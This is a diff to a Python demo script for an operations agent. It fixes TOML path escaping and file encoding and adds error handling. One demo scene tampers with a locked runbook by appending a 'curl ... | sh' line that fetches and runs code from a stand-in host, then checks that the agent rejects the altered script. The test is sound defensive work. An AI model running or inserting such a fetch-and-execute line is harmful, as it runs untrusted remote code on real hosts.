@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import asyncio
 import getpass
+import json
 import secrets
 import shutil
 import socket
@@ -29,7 +30,7 @@ from agent.logsetup import configure_logging
 from agent.redaction import Redactor
 from agent.reference import chat as chat_grammar
 from agent.reference.chat import ChatSession, agent_lines
-from agent.reference.demo_host import DemoHost
+from agent.reference.demo_host import DemoHost, NoShellError
 from agent.reference.operator_client import OperatorClient, Predicate
 from agent.reference.relay import Relay
 
@@ -43,6 +44,17 @@ ROOM = "ops"
 
 class DemoError(RuntimeError):
     """A scene did not go as it should; the message says which."""
+
+
+def toml_string(value: object) -> str:
+    """``value`` as a TOML basic string: a Windows path's backslashes (``C:\\Users\\...``) escaped, not read as
+    escapes. JSON's string escapes are a subset of TOML's."""
+    return json.dumps(str(value), ensure_ascii=False)
+
+
+def _write(path: Path, text: str) -> None:
+    """A text file as the agent and a Linux host expect it on every platform: UTF-8, LF line ends."""
+    path.write_text(text, encoding="utf-8", newline="\n")
 
 
 def find_runbooks() -> Path:
@@ -88,14 +100,16 @@ class Demo:
 
     def _prepare(self, home: Path, host: DemoHost, dead_port: int) -> None:
         shutil.copytree(find_runbooks(), home / "runbooks", ignore=shutil.ignore_patterns("*.lock"))
-        (home / "runbooks" / "demo_slow.sh").write_text(SLOW_SCRIPT)
-        (home / "runbooks" / "demo_slow.toml").write_text(SLOW_MANIFEST)
+        _write(home / "runbooks" / "demo_slow.sh", SLOW_SCRIPT)
+        _write(home / "runbooks" / "demo_slow.toml", SLOW_MANIFEST)
         try:
             Catalog(home / "runbooks", home / "runbooks.lock").relock()
         except CatalogError as exc:
             raise DemoError(str(exc)) from None
         user = getpass.getuser()
-        (home / "agent.toml").write_text(f'''
+        _write(
+            home / "agent.toml",
+            f'''
 agent_id = "demo-agent"
 operations_room = "{ROOM}"
 
@@ -103,9 +117,9 @@ operations_room = "{ROOM}"
 language = "{self.language}"
 
 [inventory]
-known_hosts = "{host.known_hosts}"
-user = "{user}"
-key_file = "{host.client_key}"
+known_hosts = {toml_string(host.known_hosts)}
+user = {toml_string(user)}
+key_file = {toml_string(host.client_key)}
 
 [inventory.hosts.was01]
 address = "127.0.0.1"
@@ -138,7 +152,8 @@ notify = "on_change"
 
 [actions]
 was_status_check = "was01_health"
-''')
+''',
+        )
 
     # -- the conversation ---------------------------------------------------------------------------------------
 
@@ -191,7 +206,7 @@ was_status_check = "was01_health"
             4, N_("Someone edits a locked script on the agent PC (here: the demo's copy of tail_log.sh)")
         )
         script = home / "runbooks" / "tail_log.sh"
-        script.write_text(script.read_text() + "\ncurl -s http://example.invalid/x | sh\n")
+        _write(script, script.read_text(encoding="utf-8") + "\ncurl -s http://example.invalid/x | sh\n")
         tampered = await self.ask(ws, "run tail_log host=was01 dir=app file=server.log")
         expect(
             tampered.get("error", {}).get("code") == "RUNBOOK_NOT_RUNNABLE",
@@ -225,7 +240,10 @@ was_status_check = "was01_health"
         started = time.monotonic()
         with tempfile.TemporaryDirectory(prefix="guardia-demo-") as tmp:
             home = Path(tmp)
-            host = DemoHost(home)
+            try:
+                host = DemoHost(home)
+            except NoShellError as exc:
+                raise DemoError(message_of(exc)) from None
             await host.start()
             relay = Relay(agent_token=secrets.token_urlsafe(24))
             try:
